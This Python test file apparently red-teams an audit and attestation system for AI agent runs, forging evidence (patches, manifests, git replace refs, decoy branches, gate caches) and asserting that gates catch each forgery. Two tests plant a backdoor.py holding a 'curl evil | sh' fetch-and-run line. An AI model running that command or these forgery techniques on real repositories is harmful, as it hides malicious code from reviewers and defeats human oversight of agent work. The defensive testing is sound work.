"""Adversarial review: a careful forger against the gates and `agentos verify`.

The forger may rewrite every file of outputs/<run>/ consistently (digests, tape chain,
tape_head, checksums, SHA256SUMS, manifests, execution_result) and commit to the target
repository, but cannot forge the signature. Each test performs one forgery on a real run
(the session fixtures of conftest.py) and asserts that the forgery is caught: some gate
FAILs (or `doit gates` exits non-zero, or verify fails).

A test that fails today documents a HOLE; it passes once the hole is closed. Which gate
should catch it, and how, is in tests/forgery_notes.md.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import (
    PERMISSIVE_POLICY,
    Built,
    git,
    read_events,
    read_json,
    rechain,
    reseal,
    sha256,
    write_json,
)
from test_tool_verify import _tool_build  # noqa: F401  (session fixture: a reviewed tool run)

import agentos_tasks.gates.runner as gates_pkg
from agentos_tasks.attest import keygen, sign_run
from agentos_tasks.attest import render_checks as render
from agentos_tasks.attest import verification_passed as passed
from agentos_tasks.attest.verify import verify_run
from agentos_tasks.evidence import tree_digests
from agentos_tasks.gates.common import FAIL, NA, PASS
from agentos_tasks.gates.report import write_reports
from agentos_tasks.gates.runner import REGISTRY, gate_inputs_digest, run_all
from agentos_tasks.git import Git
from agentos_tasks.model import Author

# ------------------------------------------------------------------ verdict helpers


def table(results: list[Any]) -> str:
    return "\n".join(f"  {r.id:<22} {r.status:<15} {r.reason[:110]}" for r in results)


def assert_caught(run_dir: Path, *expected: str) -> dict[str, Any]:
    """Some gate FAILs (one of `expected`, when given); the message shows every verdict."""
    results = run_all(run_dir)
    failed = {r.id for r in results if r.status == FAIL}
    assert failed, "HOLE: the forgery passes every gate:\n" + table(results)
    if expected:
        assert failed & set(expected), f"caught by {sorted(failed)}, expected one of " \
                                       f"{expected}:\n" + table(results)
    return {r.id: r for r in results}


def statuses(run_dir: Path) -> dict[str, str]:
    return {r.id: r.status for r in run_all(run_dir)}


# ------------------------------------------------------------------ forger's helpers


AGENTOS = Author("agentos", "agentos@localhost")


def changed_steps(run_dir: Path) -> list[str]:
    steps = read_json(run_dir / "audit" / "request.json")["steps"]
    return [s["id"] for s in steps
            if read_json(run_dir / "steps" / f"{s['id']}.json")["status"] == "changed"]


def final_tree(run_dir: Path, repo: Path, commit: str) -> dict[str, str]:
    paths: set[str] = set()
    for path in (run_dir / "steps").glob("*.json"):
        paths.update(f["path"] for f in read_json(path)["files"])
    return tree_digests(Git(repo, AGENTOS), commit, sorted(paths))


def relink_branch(run: Built, commits: list[str],
                  events: list[dict[str, Any]] | None = None) -> None:
    """Make every record name `commits` as the applied commits (a careful forger):
    execution_result, patches_applied, checksums (tree_commit + final_tree), run_end."""
    run_dir = run.run_dir
    events = read_events(run_dir) if events is None else events
    result_path = run_dir / "execution_result.json"
    result = read_json(result_path)
    result["post_apply_head"] = commits[-1]
    result["commits_applied"] = commits
    write_json(result_path, result)
    for event in events:
        if event["event"] == "patches_applied":
            event["post_apply_head"] = commits[-1]
            event["commits"] = commits
    sums_path = run_dir / "audit" / "checksums.json"
    sums = read_json(sums_path)
    sums["tree_commit"] = commits[-1]
    sums["final_tree"] = final_tree(run_dir, run.repo, commits[-1])
    write_json(sums_path, sums)
    reseal(run_dir, events)


def rebuild_branch(run: Built, transform: Callable[[str, bytes], bytes]) -> list[str]:
    """Reset the target branch to pre_apply_head and `git am` the run's patches again,
    each first passed through `transform(step_id, bytes)`; relink every record."""
    run_dir = run.run_dir
    pre = read_json(run_dir / "execution_result.json")["pre_apply_head"]
    forged_dir = run.root / "forged-patches"
    forged_dir.mkdir(exist_ok=True)
    paths = []
    for step_id in changed_steps(run_dir):
        path = forged_dir / f"{step_id}.patch"
        path.write_bytes(transform(step_id, (run_dir / "patches" / f"{step_id}.patch")
                                   .read_bytes()))
        paths.append(str(path))
    git(run.repo, "checkout", "-q", "--detach", pre)
    git(run.repo, "am", "-q", "-k", "--keep-cr", "--committer-date-is-author-date", *paths)
    head = git(run.repo, "rev-parse", "HEAD")
    git(run.repo, "checkout", "-q", "-B", "main", head)
    commits = git(run.repo, "rev-list", "--reverse", f"{pre}..{head}").split()
    relink_branch(run, commits)
    return commits


def forge_history(run: Built, edits: dict[str, Callable[[Path], None]], *,
                  hide: frozenset[str] = frozenset()) -> None:
    """Re-execute the run as a forger would: every step's original patch, then `edits`
    on top; new worktree commits, patches (exported exactly as the executor does),
    manifests (their `files` from git, minus `hide`), tape, branch (git am), checksums."""
    run_dir, repo = run.run_dir, run.repo
    g = Git(repo, AGENTOS)
    result = read_json(run_dir / "execution_result.json")
    events = read_events(run_dir)
    head = result["base"]
    g.run("checkout", "-q", "--detach", head)
    manifests: dict[str, dict[str, Any]] = {}
    for step in read_json(run_dir / "audit" / "request.json")["steps"]:
        step_id = step["id"]
        manifest = read_json(run_dir / "steps" / f"{step_id}.json")
        manifest["parent"] = head
        if manifest["status"] == "changed":
            g.run("apply", "--index", "--binary", str(run_dir / "patches" / f"{step_id}.patch"))
            if step_id in edits:
                edits[step_id](repo)
            g.run("add", "-A")
            g.run("commit", "-q", "--no-verify", "--cleanup=verbatim", "-F", "-",
                  input=manifest["message"].encode())
            commit = g.rev_parse("HEAD")
            patch = g.commit_patch(commit)
            (run_dir / "patches" / f"{step_id}.patch").write_bytes(patch)
            listed = g.run("diff-tree", "-r", "--no-renames", "--name-status", "-z", head,
                           commit).stdout.decode().split("\0")
            pairs = list(zip(listed[0::2], listed[1::2], strict=False))
            digests = tree_digests(g, commit, [p for _, p in pairs])
            manifest["files"] = [
                {"path": p, "status": s, "old_path": None, "old_mode": None,
                 "new_mode": None, "sha256": digests.get(p)}
                for s, p in pairs if p and p not in hide]
            manifest["commit"] = manifest["head"] = head = commit
            manifest["patch_sha256"] = sha256(patch)
        else:
            manifest["head"] = head
        write_json(run_dir / "steps" / f"{step_id}.json", manifest)
        manifests[step_id] = manifest
    for event in events:
        manifest = manifests.get(str(event.get("step")))
        if manifest is None:
            continue
        if event["event"] == "step_start":
            event["parent"] = manifest["parent"]
        if event["event"] == "step_end":
            event["commit"], event["head"] = manifest["commit"], manifest["head"]
    for entry in result["steps"]:
        entry["commit"] = manifests[entry["id"]]["commit"]
    write_json(run_dir / "execution_result.json", result)
    patches = [str(run_dir / "patches" / f"{s}.patch") for s in changed_steps(run_dir)]
    g.run("checkout", "-q", "--detach", result["base"])
    g.run("am", "-q", "-k", "--keep-cr", "--no-3way", "--committer-date-is-author-date",
          "--", *patches)
    post = g.rev_parse("HEAD")
    g.run("checkout", "-q", "-B", "main", post)
    relink_branch(run, g.out("rev-list", "--reverse", f"{result['base']}..{post}").split(),
                  events)


def adopt_policy(run: Built, text: str, events: list[dict[str, Any]] | None = None) -> None:
    """Swap audit/policy.yaml and every digest that names it, then reseal."""
    run_dir = run.run_dir
    policy = run_dir / "audit" / "policy.yaml"
    policy.write_text(text)
    digest = sha256(policy.read_bytes())
    for path in (run_dir / "steps").glob("*.json"):
        manifest = read_json(path)
        manifest["policy_check"]["policy_sha256"] = digest
        write_json(path, manifest)
    result = read_json(run_dir / "execution_result.json")
    result["policy"]["sha256"] = digest
    write_json(run_dir / "execution_result.json", result)
    events = read_events(run_dir) if events is None else events
    for event in events:
        if event["event"] == "policy_loaded":
            event["policy_sha256"] = digest
    reseal(run_dir, events)


def edit_json(path: Path, fn: Callable[[Any], None]) -> None:
    data = read_json(path)
    fn(data)
    write_json(path, data)


@pytest.fixture
def tool_run(_tool_build: Built) -> Any:  # noqa: F811
    """An applied run whose tool step t1 (fake claude, review required) was approved."""
    yield _tool_build.restore()


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    return keygen(tmp_path_factory.mktemp("forgery-keys"))


# ------------------------------------------------------------------ patch-id is not content


def test_patch_file_edited_in_whitespace_only_is_caught(good_run: Built) -> None:
    """HOLE. `git patch-id` ignores whitespace, and for non-tool steps no gate compares
    the patch file with the commit it claims to be (TL-C does, for tool steps only). The
    evidence patch shows an indented line that never landed (in Python/YAML/Make this is
    a different program)."""
    patch = good_run.run_dir / "patches" / "s6.patch"
    data = patch.read_bytes()
    assert b"\n+More.\n" in data
    patch.write_bytes(data.replace(b"\n+More.\n", b"\n+    More.\n"))
    reseal(good_run.run_dir)
    assert_caught(good_run.run_dir, "R2", "EX-D", "R3")


def test_branch_commit_differing_by_whitespace_from_its_patch_is_caught(
        good_run: Built) -> None:
    """HOLE. The branch is rebuilt so that s3's commit creates notes.txt as `te mp` (s5
    deletes it again, so the final tree is identical): same patch ids, same messages,
    same final tree, so R2/EX-D pass although a commit on the branch is not the patch."""
    def whitespace(step_id: str, data: bytes) -> bytes:
        if step_id == "s3":
            return data.replace(b"\n+temp\n", b"\n+te mp\n")
        if step_id == "s5":
            return data.replace(b"\n-temp\n", b"\n-te mp\n")
        return data

    commits = rebuild_branch(good_run, whitespace)
    assert git(good_run.repo, "show", f"{commits[2]}:notes.txt") == "te mp"
    assert_caught(good_run.run_dir, "R2", "EX-D")


@pytest.mark.parametrize("head", ["forged-post", "0" * 40])
def test_final_tree_differing_from_the_tested_worktree_is_caught(good_run: Built,
                                                                 head: str) -> None:
    """HOLE. The last commit lands `gen.txt` as `g ` (patch id unchanged). EX-D's
    tree check compares the branch with the tree of the last manifest's `head`, a field
    no gate ties to its `commit`: pointed at the forged branch head, or at a commit that
    does not exist (then the check is skipped: `if tested is not None`)."""
    commits = rebuild_branch(
        good_run, lambda s, d: d.replace(b"\n+g\n", b"\n+g \n") if s == "s7" else d)
    assert git(good_run.repo, "cat-file", "-s", "main:gen.txt") == "2"  # "g " (git() strips)
    target = commits[-1] if head == "forged-post" else head
    edit_json(good_run.run_dir / "steps" / "s7.json", lambda m: m.update(head=target))
    events = read_events(good_run.run_dir)
    for event in events:
        if event["event"] == "step_end" and event["step"] == "s7":
            event["head"] = target
    reseal(good_run.run_dir, events)
    assert_caught(good_run.run_dir, "EX-D", "R2", "R3")


def test_branch_commits_by_another_author_are_caught(good_run: Built) -> None:
    """HOLE (low). The branch is rebuilt with every commit authored by someone else; the
    patch ids and messages match, so nothing notices that the commits on the branch are
    not the ones the executor made (author = the request's author)."""
    rebuild_branch(good_run, lambda s, d: d.replace(b"From: agentos <agentos@localhost>",
                                                    b"From: Mallory <mallory@evil>"))
    assert git(good_run.repo, "log", "-1", "--format=%an", "main") == "Mallory"
    assert_caught(good_run.run_dir, "R2", "EX-D")


def test_replace_refs_cannot_hide_arbitrary_content_on_the_branch(good_run: Built) -> None:
    """HOLE. The branch really ends in a commit that adds backdoor.py; `git replace`
    makes the local repository show the honest commit in its place. Gates run git
    without GIT_NO_REPLACE_OBJECTS, so patch ids, trees and checksums all come from the
    replacement, while a clone or push of the branch carries the backdoor."""
    repo = good_run.repo
    result = read_json(good_run.run_dir / "execution_result.json")
    honest = result["commits_applied"][-1]
    git(repo, "checkout", "-q", "--detach", f"{honest}^")
    git(repo, "checkout", "-q", honest, "--", ".")
    (repo / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
    git(repo, "add", "-A")
    message = git(repo, "log", "-1", "--format=%B", honest)
    git(repo, "commit", "-q", "-m", message)
    evil = git(repo, "rev-parse", "HEAD")
    git(repo, "checkout", "-q", "-B", "main", evil)
    git(repo, "replace", evil, honest)
    relink_branch(good_run, [*result["commits_applied"][:-1], evil])
    assert "backdoor.py" in git(repo, "--no-replace-objects", "ls-tree", "--name-only",
                                "main")
    assert_caught(good_run.run_dir, "R2", "EX-D", "R3")


@pytest.mark.parametrize("decoy", ["branch", "repo"])
def test_gates_pointed_at_a_decoy_branch_or_repository_are_caught(good_run: Built,
                                                                  decoy: str) -> None:
    """HOLE. The real target (request.json: repo, branch main; patches_applied: main)
    gets a backdoor commit on top; execution_result.json names a decoy that still holds
    the honest history: another branch of the same repository, or a copy of the whole
    repository. Every git-backed gate follows execution_result.json; nothing ties its
    repo/branch to the request, the tape's worktree_created/patches_applied or the
    worktree's git_common_dir."""
    repo = good_run.repo
    result_path = good_run.run_dir / "execution_result.json"
    if decoy == "branch":
        git(repo, "branch", "honest", "main")
        edit_json(result_path, lambda r: r.update(branch="honest"))
    else:
        shadow = good_run.root / "shadow-repo"
        git(repo, "clone", "-q", "--no-local", str(repo), str(shadow))
        git(shadow, "update-ref", "refs/heads/main", git(repo, "rev-parse", "main"))
        edit_json(result_path, lambda r: r.update(repo=str(shadow)))
    (repo / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
    git(repo, "add", "backdoor.py")
    git(repo, "commit", "-q", "-m", "s7: generate a file")
    reseal(good_run.run_dir)
    assert_caught(good_run.run_dir, "R2", "EX-D", "EX-H", "EX-C")


# ------------------------------------------------------------------ what the steps did


def test_write_step_landing_other_content_than_requested_is_caught(good_run: Built) -> None:
    """HOLE. s1 is `write docs/a.md "alpha"` (audit/request.json records content_sha256);
    the forged history writes `EVIL` there, consistently in commit, patch, manifest, tape,
    branch and checksums. No gate compares a write step's landed content with the
    request, although it is fully determined by it."""
    forge_history(good_run, {"s1": lambda wt: (wt / "docs" / "a.md").write_text("EVIL\n")})
    assert git(good_run.repo, "show", "main:docs/a.md") == "EVIL"
    assert_caught(good_run.run_dir, "EX-A", "R2", "EX-D")


def test_write_step_changing_a_second_path_is_caught(good_run: Built) -> None:
    """HOLE. s1 (`write docs/a.md`) also adds src/extra.py, listed honestly in its
    manifest and on the tape: a write step can only ever change its own path."""
    forge_history(good_run, {"s1": lambda wt: (wt / "src").mkdir() or
                             (wt / "src" / "extra.py").write_text("EXTRA = 1\n")})
    assert git(good_run.repo, "show", "main:src/extra.py") == "EXTRA = 1"
    assert_caught(good_run.run_dir, "EX-A", "R2", "EX-D", "R3")


def test_changed_file_hidden_from_manifest_and_tape_is_caught(good_run: Built) -> None:
    """HOLE. As above, but src/extra.py is left out of the manifest, the tape's step_end
    and execution_result; only the patch (and the branch) have it. EX-A judges the path
    from the patch, but no gate compares a manifest's `files` with its patch/commit
    (TL-C does, for tool steps only), so the reviewer's file list is short by one."""
    forge_history(good_run, {"s1": lambda wt: (wt / "src").mkdir() or
                             (wt / "src" / "extra.py").write_text("EXTRA = 1\n")},
                  hide=frozenset({"src/extra.py"}))
    manifest = read_json(good_run.run_dir / "steps" / "s1.json")
    assert [f["path"] for f in manifest["files"]] == ["docs/a.md"]
    assert b"src/extra.py" in (good_run.run_dir / "patches" / "s1.patch").read_bytes()
    assert_caught(good_run.run_dir, "EX-A", "R3", "EX-E")


def test_forge_history_without_lies_still_passes(good_run: Built) -> None:
    """Control for the three tests above: the forger's re-execution with no edit passes
    every gate but AT, so what they catch is the lie, not the helper. AT fails it: the
    re-made commits and tape are not what the executor signed as the steps ended."""
    forge_history(good_run, {})
    results = run_all(good_run.run_dir)
    assert {r.id for r in results if r.status == FAIL} == {"AT"}, table(results)


# ------------------------------------------------------------------ request.json vs request.yaml


def test_questions_removed_from_request_json_are_caught(answered_run: Built) -> None:
    """HOLE (NOT_APPLICABLE by deletion). audit/request.yaml still asks q1 and q2 and the
    tape has questions_blocked/resume_applied, but A1-A3 read only audit/request.json: a
    forger empties its `questions` and A1-A3 become NOT_APPLICABLE. R1 only compares
    sha256(request.yaml) with request.json's `sha256` field, never the content."""
    edit_json(answered_run.run_dir / "audit" / "request.json",
              lambda r: r.update(questions=[]))
    reseal(answered_run.run_dir)
    assert_caught(answered_run.run_dir, "A1", "A2", "A3", "R1")


STRICT_COMMANDS = PERMISSIVE_POLICY.replace("- {id: py, argv: [python]}",
                                            "- {id: ruff, argv: [ruff, check]}")


def test_run_argv_rewritten_to_fit_a_stricter_policy_is_caught(good_run: Built) -> None:
    """HOLE. s7 really ran `python -c ...`. The forger claims a policy that only allows
    `ruff check` and rewrites s7's argv in audit/request.json (not in request.yaml, not
    in the manifest's sandbox.wrapper_argv, which both still say python). Every gate
    decides on request.json alone."""
    assert "python" not in STRICT_COMMANDS
    edit_json(good_run.run_dir / "audit" / "request.json",
              lambda r: r["steps"][6].update(argv=["ruff", "check", "gen.txt"]))
    adopt_policy(good_run, STRICT_COMMANDS)
    wrapper = read_json(good_run.run_dir / "steps" / "s7.json")["sandbox"]["wrapper_argv"]
    assert wrapper[wrapper.index("--") + 1:][:2] == ["python", "-c"]
    assert_caught(good_run.run_dir, "EX-A", "R1")


def test_run_step_hidden_as_a_write_step_is_caught(good_run: Built) -> None:
    """HOLE. The command step s7 is relabelled a `write gen.txt` step in request.json and
    on the tape (op), so the policy's commands are never consulted; request.yaml and the
    manifest (op run, exit code, log, sandbox argv) still show the command."""
    def as_write(request: dict[str, Any]) -> None:
        step = request["steps"][6]
        del step["argv"], step["expect_exit"]
        step.update(op="write", path="gen.txt", content_sha256=sha256(b"g"))

    edit_json(good_run.run_dir / "audit" / "request.json", as_write)
    events = read_events(good_run.run_dir)
    for event in events:
        if event["event"] == "step_start" and event["step"] == "s7":
            event["op"] = "write"
    adopt_policy(good_run, STRICT_COMMANDS.replace("operations: [write, delete, patch, run]",
                                                   "operations: [write, delete, patch]"),
                 events)
    assert_caught(good_run.run_dir, "EX-A", "R1")


def test_tool_step_relabelled_as_a_write_step_is_caught(tool_run: Built) -> None:
    """HOLE (NOT_APPLICABLE by relabelling). The tool step t1 becomes a `write
    src/app.py` step in request.json and on the tape: TL-A..TL-F turn NOT_APPLICABLE
    ("the run has no tool steps") and EX-G too (the policy reviews tool steps only),
    although request.yaml, tools/t1/ and the manifest's tool record all show the agent."""
    run_dir = tool_run.run_dir
    assert statuses(run_dir)["TL-F"] == PASS
    content = git(tool_run.repo, "show", "main:src/app.py").encode() + b"\n"

    def as_write(request: dict[str, Any]) -> None:
        step = request["steps"][1]
        del step["tool"], step["expect_exit"]
        step.update(op="write", path="src/app.py", content_sha256=sha256(content))

    edit_json(run_dir / "audit" / "request.json", as_write)
    events = read_events(run_dir)
    for event in events:
        if event["event"] == "step_start" and event["step"] == "t1":
            event["op"] = "write"
    reseal(run_dir, events)
    assert_caught(run_dir, "TL-A", "TL-C", "EX-A", "R1", "EX-G")


# ------------------------------------------------------------------ sandbox claims


BWRAP_REQUIRED = PERMISSIVE_POLICY.replace("isolation: best-effort", "isolation: required")


def _unsandbox_s7(run: Built, **sandbox: Any) -> None:
    edit_json(run.run_dir / "steps" / "s7.json", lambda m: m["sandbox"].update(sandbox))


def test_unsandboxed_step_under_isolation_required_is_caught(good_run: Built) -> None:
    """HOLE. The run claims `isolation: required` while s7's manifest says it ran with
    backend `none` and no wrapper: a contradiction no gate checks (EX-C only looks at
    writable binds in wrapper_argv, of which there are now none)."""
    _unsandbox_s7(good_run, backend="none", wrapper_argv=[])
    edit_json(good_run.run_dir / "execution_result.json",
              lambda r: r["sandbox"].update(backends=["none"]))
    adopt_policy(good_run, BWRAP_REQUIRED)
    assert_caught(good_run.run_dir, "EX-C", "EX-A")


def test_execution_result_claiming_bwrap_for_an_unsandboxed_step_is_caught(
        good_run: Built) -> None:
    """HOLE. s7's manifest says backend `none` (best-effort, allowed), but
    execution_result.json (whose `sandbox` is copied into the signed predicate) still
    claims `bwrap`. EX-H does not recount `sandbox.backends` from the manifests."""
    if read_json(good_run.run_dir / "steps" / "s7.json")["sandbox"]["backend"] != "bwrap":
        pytest.skip("bwrap does not work here: the good run is unsandboxed already")
    _unsandbox_s7(good_run, backend="none", wrapper_argv=[])
    assert read_json(good_run.run_dir / "execution_result.json")["sandbox"]["backends"] == \
        ["bwrap"]
    reseal(good_run.run_dir)
    assert_caught(good_run.run_dir, "EX-H", "EX-C")


def test_step_with_network_under_a_no_network_policy_is_caught(good_run: Built) -> None:
    """HOLE. The policy says `network: false`; s7's manifest records a sandbox with
    network (and no --unshare-net / --unshare-all). Nothing compares the two."""
    def with_network(m: dict[str, Any]) -> None:
        m["sandbox"]["network"] = True
        m["sandbox"]["wrapper_argv"] = [a for a in m["sandbox"]["wrapper_argv"]
                                        if a != "--unshare-all"]
    edit_json(good_run.run_dir / "steps" / "s7.json", with_network)
    reseal(good_run.run_dir)
    assert_caught(good_run.run_dir, "EX-C", "EX-A")


# ------------------------------------------------------------------ NOT_APPLICABLE by deletion


@pytest.mark.parametrize("status", ["rolled_back", "failed"])
def test_rollback_erased_from_a_rolled_back_run_is_caught(good_run: Built,
                                                          status: str) -> None:
    """HOLE. After a real `doit rollback`, the forger erases patches_applied, the applied
    run_end and the rollback event, deletes rollback_proof.json and leaves the status
    `rolled_back` (or says `failed`): EX-F becomes NOT_APPLICABLE and nothing asks where
    the rollback (or the failure) is."""
    assert good_run.gates("rollback").returncode == 0
    assert statuses(good_run.run_dir)["EX-F"] == PASS
    events = [e for e in read_events(good_run.run_dir)
              if e["event"] not in ("patches_applied", "rollback")
              and not (e["event"] == "run_end" and e.get("status") == "applied")]
    (good_run.run_dir / "audit" / "rollback_proof.json").unlink()
    edit_json(good_run.run_dir / "execution_result.json", lambda r: r.update(status=status))
    events[-1]["status"] = status
    events[-1].pop("execution_result_sha256", None)
    rechain(good_run.run_dir, events)
    assert statuses(good_run.run_dir)["EX-F"] == NA
    assert_caught(good_run.run_dir, "EX-F", "EX-C", "R3", "EX-H")


def test_denied_run_whose_branch_moved_with_branch_head_erased_is_caught(
        denied_run: Built) -> None:
    """HOLE (missing evidence -> PASS). R1 checks "branch unchanged" only
    `if recorded_head is not None`: erase branch_head from policy_denied and a branch
    that moved after the denial passes R1 (R2/EX-C/EX-D are NOT_APPLICABLE)."""
    git(denied_run.repo, "commit", "-q", "--allow-empty", "-m", "slipped in")
    events = read_events(denied_run.run_dir)
    for event in events:
        if event["event"] == "policy_denied":
            event["branch_head"] = None
    rechain(denied_run.run_dir, events)
    assert_caught(denied_run.run_dir, "R1")


def test_denied_run_cannot_drop_its_denial_from_request_json(denied_run: Built) -> None:
    """Caught (R1): the denied step removed from request.json makes the recorded policy
    allow the request, and the tape's policy_denied then contradicts it."""
    edit_json(denied_run.run_dir / "audit" / "request.json",
              lambda r: r.update(steps=r["steps"][:1]))
    assert_caught(denied_run.run_dir, "R1")


# ------------------------------------------------------------------ doit gates cache


def test_doit_gates_is_not_stale_after_a_nested_evidence_file_appears(
        good_run: Built) -> None:
    """HOLE. R3's cache key globs `logs/*` and `tools/*/*` (one level), while R3 itself
    checks every file under logs/ and tools/ (rglob). A file added at logs/sub/ after a
    passing `doit gates` leaves R3 "up to date": the second `doit gates` reuses PASS."""
    first = good_run.gates()
    assert first.returncode == 0, first.stdout + first.stderr
    (good_run.run_dir / "logs" / "sub").mkdir()
    (good_run.run_dir / "logs" / "sub" / "extra.out").write_text("unlisted\n")
    assert statuses(good_run.run_dir)["R3"] == FAIL
    second = good_run.gates()
    assert second.returncode != 0, "HOLE: doit gates reused a stale PASS:\n" + second.stdout


def test_doit_gates_does_not_trust_a_cache_forged_inside_the_run_dir(
        good_run: Built) -> None:
    """HOLE. Gate results are cached in outputs/<run>/.state (doit-deps.json values and
    .state/gates/<ID>.json), i.e. inside what the forger controls. After a real tamper
    (branch reset by one commit: R2, EX-C, EX-D FAIL), the forger recomputes the input
    digests, writes them into the cache with the old PASS results, and `doit gates`
    runs nothing, exits 0 and leaves the old all-PASS reports/gates.json (which
    `doit sign` then signs)."""
    assert good_run.gates().returncode == 0
    git(good_run.repo, "reset", "-q", "--hard", "HEAD~1")
    assert {"R2", "EX-D"} <= {k for k, v in statuses(good_run.run_dir).items() if v == FAIL}
    gates_pkg._HEADS.clear()  # the memo is per process; this one built other runs too
    state = good_run.run_dir / ".state"
    deps = json.loads((state / "doit-deps.json").read_text())
    digests = {}
    for gate in REGISTRY:
        digests[gate.id] = gate_inputs_digest(gate, good_run.run_dir)
        partial = state / "gates" / f"{gate.id}.json"
        cached = json.loads(partial.read_text())
        partial.write_text(json.dumps({"inputs": digests[gate.id], "result": cached["result"]}))
        deps[f"gates:{gate.id}"]["_values_:"] = {
            "_agentos_inputs": json.dumps(digests[gate.id], sort_keys=True)}
    deps["gates:report"]["_values_:"] = {"_agentos_inputs": json.dumps(digests,
                                                                        sort_keys=True)}
    (state / "doit-deps.json").write_text(json.dumps(deps))
    out = good_run.gates()
    gates_json = read_json(good_run.run_dir / "reports" / "gates.json")
    assert out.returncode != 0 or gates_json["summary"]["FAIL"], \
        "HOLE: doit gates trusted the forged cache:\n" + out.stdout[-1500:]


# ------------------------------------------------------------------ after signing


def test_junit_report_rewritten_after_signing_is_caught(good_run: Built,
                                                        keys: tuple[Path, Path]) -> None:
    """HOLE (low). reports/gates.xml, the JUnit file CI dashboards read, is neither a
    signed subject nor evidence that verify looks at: after signing it can say anything."""
    good_run.run_dir.joinpath("reports").mkdir(exist_ok=True)
    write_reports(good_run.run_dir)
    sign_run(good_run.run_dir, keys[0])
    xml = good_run.run_dir / "reports" / "gates.xml"
    xml.write_text(xml.read_text().replace('tests="', 'data-forged="1" tests="'))
    checks = verify_run(good_run.run_dir, keys[1])
    assert not passed(checks), "HOLE: verify ignores reports/gates.xml:\n" + render(checks)


def test_replace_ref_after_signing_is_caught(good_run: Built,
                                             keys: tuple[Path, Path]) -> None:
    """HOLE. After signing, the forger `git replace`s s3's applied commit with one that
    creates notes.txt as `te mp` (same parent, message and patch id; s5 deletes it,
    so the final tree is unchanged): `agentos verify` still passes, although the
    repository now shows other content for a signed commit."""
    write_reports(good_run.run_dir)
    sign_run(good_run.run_dir, keys[0])
    repo = good_run.repo
    honest = read_json(good_run.run_dir / "execution_result.json")["commits_applied"][2]
    git(repo, "checkout", "-q", "--detach", f"{honest}^")
    (repo / "notes.txt").write_text("te mp\n")
    git(repo, "add", "notes.txt")
    git(repo, "commit", "-q", "-m", git(repo, "log", "-1", "--format=%B", honest))
    git(repo, "replace", honest, git(repo, "rev-parse", "HEAD"))
    git(repo, "checkout", "-q", "main")
    assert git(repo, "show", f"{honest}:notes.txt") == "te mp"
    checks = verify_run(good_run.run_dir, keys[1])
    assert not passed(checks), "HOLE: verify passes with a replaced commit:\n" + render(checks)


def test_all_pass_gates_json_forged_before_signing_is_caught_by_verify(
        good_run: Built, keys: tuple[Path, Path]) -> None:
    """Caught (verify recomputes every gate): the branch loses a commit, gates.json is
    replaced by the all-PASS report of the untampered run, and sign_run signs it (it
    trusts gates.json; its freshness check only covers evidence gates.json names)."""
    write_reports(good_run.run_dir)
    honest = read_json(good_run.run_dir / "reports" / "gates.json")
    for gate in honest["gates"]:
        gate["evidence"] = []
    git(good_run.repo, "reset", "-q", "--hard", "HEAD~1")
    write_json(good_run.run_dir / "reports" / "gates.json", honest)
    sign_run(good_run.run_dir, keys[0])
    checks = verify_run(good_run.run_dir, keys[1])
    assert not passed(checks)
    assert {"gate R2", "gate EX-D"} <= {c.name for c in checks if not c.ok}, render(checks)


def test_symlinked_patch_is_refused_at_signing_and_verify(good_run: Built,
                                                          keys: tuple[Path, Path]) -> None:
    """Caught: a patch replaced by a symlink (to identical bytes elsewhere) is not
    signed, and a symlink swapped in after signing fails verify."""
    patch = good_run.run_dir / "patches" / "s1.patch"
    outside = good_run.root / "elsewhere.patch"
    outside.write_bytes(patch.read_bytes())
    write_reports(good_run.run_dir)
    sign_run(good_run.run_dir, keys[0])
    patch.unlink()
    patch.symlink_to(outside)
    checks = verify_run(good_run.run_dir, keys[1])
    assert not passed(checks)
    assert any("not a regular file" in c.detail for c in checks if not c.ok), render(checks)


def test_write_landing_other_bytes_without_gitattributes_is_caught(good_run: Built) -> None:
    """`written_sha256` may only differ from what landed when attributes can explain it."""
    run_dir = good_run.run_dir
    manifests = sorted((run_dir / "steps").glob("*.json"))
    for path in manifests:
        manifest = read_json(path)
        if manifest.get("op") == "write" and manifest.get("status") == "changed":
            manifest["files"][0]["written_sha256"] = manifest["files"][0]["sha256"]
            manifest["files"][0]["sha256"] = "0" * 64
            path.write_text(json.dumps(manifest))
            break
    reseal(run_dir, read_events(run_dir))
    assert_caught(run_dir, "EX-A")
